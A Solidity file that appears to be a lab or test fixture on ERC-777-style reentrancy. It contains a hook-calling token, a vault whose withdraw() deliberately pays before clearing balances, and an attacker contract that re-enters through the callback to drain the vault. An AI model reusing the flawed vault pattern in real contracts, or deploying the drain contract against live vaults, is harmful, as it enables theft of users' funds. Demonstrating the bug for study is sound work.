// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20} from "../Interfaces.sol";

// erc777-style-reentrancy: a token that calls its recipients back, a vault written for tokens that do not,
// and the contract that re-enters the vault through the callback.

/// What a HookToken recipient implements to hear of a payment (ERC-777's tokensReceived, simplified).
interface ITokensRecipient {
    function tokensReceived(address operator, address from, uint256 amount) external;
}

/// An ERC-20 with ERC-777's receive hook: an account that registered itself is called with tokensReceived after
/// every payment to it, balances already moved. ERC-777 finds the implementer in the ERC-1820 registry; this
/// token keeps its own registry. Nothing here is a bug: the hook is a feature other contracts must expect.
contract HookToken is IERC20 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public immutable minter;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public hooked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event RecipientRegistered(address indexed account);

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
        minter = msg.sender;
    }

    /// The caller asks to be told of every payment it receives from now on.
    function registerRecipient() external {
        hooked[msg.sender] = true;
        emit RecipientRegistered(msg.sender);
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "HookToken: not the minter");
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _pay(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "HookToken: allowance exceeded");
            allowance[from][msg.sender] = allowed - amount;
        }
        _pay(from, to, amount);
        return true;
    }

    function _pay(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount, "HookToken: balance too low");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        if (hooked[to]) {
            ITokensRecipient(to).tokensReceived(msg.sender, from, amount);
        }
    }
}

/// Models a savings vault for one token: people deposit, and withdraw() returns the caller's whole balance.
/// VULNERABLE: withdraw() pays before it clears the balance (see BUG). With a plain ERC-20 nobody runs in
/// between; with HookToken the recipient's tokensReceived runs inside the payment and may call withdraw() again,
/// which still sees the old balance.
contract HookTokenVault {
    IERC20 public immutable token;
    mapping(address => uint256) public balances;

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, uint256 amount);

    constructor(IERC20 token_) {
        token = token_;
    }

    function deposit(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        balances[msg.sender] += amount;
        emit Deposited(msg.sender, amount);
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "HookTokenVault: nothing to withdraw");
        token.transfer(msg.sender, amount); // BUG: the recipient's hook runs before the balance is cleared
        balances[msg.sender] = 0;
        emit Withdrawn(msg.sender, amount);
    }
}

/// The attack contract: registers for the hook, deposits a stake it pulls from its owner, withdraws it, and from
/// tokensReceived withdraws the same stake again while the vault still holds that much; everything it ends with
/// goes to the owner in the same transaction.
contract HookReentrancyAttacker is ITokensRecipient {
    HookTokenVault public immutable vault;
    HookToken public immutable token;
    address public immutable owner;
    uint256 private stake;

    constructor(HookTokenVault vault_) {
        vault = vault_;
        token = HookToken(address(vault_.token()));
        owner = msg.sender;
    }

    function attack(uint256 amount) external {
        require(msg.sender == owner, "not owner");
        token.registerRecipient();
        stake = amount;
        token.transferFrom(owner, address(this), amount);
        token.approve(address(vault), amount);
        vault.deposit(amount);
        vault.withdraw();
        stake = 0;
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function tokensReceived(address, address from, uint256) external {
        if (msg.sender != address(token) || from != address(vault) || stake == 0) {
            return; // the owner's own top-up, or a payment after the attack
        }
        if (token.balanceOf(address(vault)) >= stake) {
            vault.withdraw();
        }
    }
}
